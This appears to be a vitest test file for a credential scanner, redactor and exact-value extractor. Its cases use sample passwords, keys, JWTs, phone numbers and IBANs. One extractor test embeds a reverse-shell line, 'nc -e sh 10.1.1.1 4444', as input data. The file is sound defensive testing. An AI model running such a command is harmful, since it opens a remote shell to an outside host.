// Credential scanners and exact-value extraction: what they find, and what they must not.
import { describe, expect, it } from 'vitest';
import { containsSecret, findSecrets, redactSecrets } from '../../src/provenance/detect.js';
import { extractValues } from '../../src/provenance/values.js';

const found = (text: string) => findSecrets(text).map((s) => text.slice(s.start, s.end));

describe('findSecrets', () => {
  it.each([
    ['DB_PASSWORD=Tr0ub4dor-Prod-5521', 'Tr0ub4dor-Prod-5521'],
    [
      'aws_secret_access_key = wJalrXUtnFEMI/K7MDENG/bPxRfiCYEXAMPLEKEY',
      'wJalrXUtnFEMI/K7MDENG/bPxRfiCYEXAMPLEKEY',
    ],
    ['SESSION_SECRET=9f8e7d6c5b4a3', '9f8e7d6c5b4a3'],
    ['{"user":"ana","password":"hunter2-xyz"}', 'hunter2-xyz'],
    ['Wi-Fi password: cedar-lake-42', 'cedar-lake-42'],
    ['DATABASE_URL=postgres://shop:s3cr3t-Pa55@db.internal:5432/shop', 's3cr3t-Pa55'],
    ['webhook_signing_secret = "whsec_4eC39HqLyjWDarjtT1zdp7dc"', 'whsec_4eC39HqLyjWDarjtT1zdp7dc'],
  ])('finds the credential in %s', (text, secret) => {
    expect(found(text)).toContain(secret);
  });

  it('does not find a handle or a redaction again', () => {
    const handle = 'secret_fd_0123456789abcdef0123456789abcdef';
    expect(containsSecret(`password: ${handle}`)).toBe(false);
    expect(containsSecret(`postgres://app:${handle}@db.internal/shop`)).toBe(false);
    expect(containsSecret(redactSecrets('password: hunter2-xyz'))).toBe(false);
  });

  it.each([
    'pwd: /home/alice/project',
    '"password_reset_url": "https://example.com/reset"',
    'secret_name: prod-db-credentials',
    'private_key_path = ~/.ssh/id_ed25519',
    'access_token_expires_in: 3600000',
    'password: ********',
    `DB_PASSWORD=${'$'}{DB_PASSWORD}`,
  ])('does not take %s for a credential', (text) => {
    expect(containsSecret(text)).toBe(false);
  });

  it('finds a long run of token characters in linear time, without overflowing', () => {
    const run = `sk-${'A'.repeat(6_000_000)}`;
    expect(containsSecret(run)).toBe(true);
    expect(containsSecret(`${'sk-'.repeat(200_000)}`)).toBe(true);
  });

  it('leaves words that merely contain a keyword alone', () => {
    expect(containsSecret('secretary: Jonathan Baker')).toBe(false);
    expect(containsSecret('passwords are stored in the vault')).toBe(false);
    expect(containsSecret('see https://example.com/docs for details')).toBe(false);
  });
});

describe('extractValues', () => {
  it('does not track a date as a number, but does track phone and account numbers', () => {
    const values = extractValues('Due 2025-04-01; call +44 7700 900123 or pay 12345678.');
    expect(values.has('num:20250401')).toBe(false);
    // Shaped like a date but impossible: still a number.
    expect(extractValues('account 1234-56-78').has('num:12345678')).toBe(true);
    expect(values.has('num:447700900123')).toBe(true);
    expect(values.has('num:12345678')).toBe(true);
  });
});

describe('token formats added after the red-team review', () => {
  const JWT =
    'eyJhbGciOiJIUzI1NiIsInR5cCI6IkpXVCJ9.eyJzdWIiOiIxMjM0NTY3ODkwIiwibmFtZSI6IkphbmUifQ.SflKxwRJSMeKKF2QT4fwpMeJf36POk6yJV_adQssw5c';
  it('finds bearer tokens, JWTs and Hugging Face tokens, and only the secret part', () => {
    expect(redactSecrets(`Authorization: Bearer ${JWT}`)).toBe(
      'Authorization: Bearer [redacted-secret]',
    );
    expect(redactSecrets(`Authorization: Bearer abcdefghijklmnopqrstuvwxyz012345`)).toBe(
      'Authorization: Bearer [redacted-secret]',
    );
    expect(redactSecrets(`session=${JWT};`)).toBe('session=[redacted-secret];');
    expect(redactSecrets('HF_TOKEN=hf_abcdefghijklmnopqrstuvwxyzABCDEFGH')).toBe(
      'HF_TOKEN=[redacted-secret]',
    );
  });
  it('leaves prose about bearers and short words alone', () => {
    expect(containsSecret('The bearer of this letter is trusted.')).toBe(false);
    expect(containsSecret('Bearer tokens expire after an hour')).toBe(false);
  });
});

describe('exact values in the forms people write them', () => {
  it('finds dotted and bracketed phone numbers, spaced IBANs and IPv4 addresses', () => {
    const same = (a: string, b: string) =>
      expect(
        [...extractValues(a)].some((value) => extractValues(b).has(value)),
        `${a} | ${b}`,
      ).toBe(true);
    same('call 415.555.0134 today', '4155550134');
    same('call (415) 555-0134 today', '415-555-0134');
    same('IBAN DE89 3704 0044 0532 0130 00', 'DE89370400440532013000');
    same('then run nc -e sh 10.1.1.1 4444', 'nc 10.1.1.1');
  });
  it('still leaves dates and decimal amounts alone', () => {
    for (const text of ['on 12.06.2025', 'on 2025/06/12', 'pay 1234.56 EUR', 'version 1.2.3']) {
      expect([...extractValues(text)], text).toEqual([]);
    }
  });
});
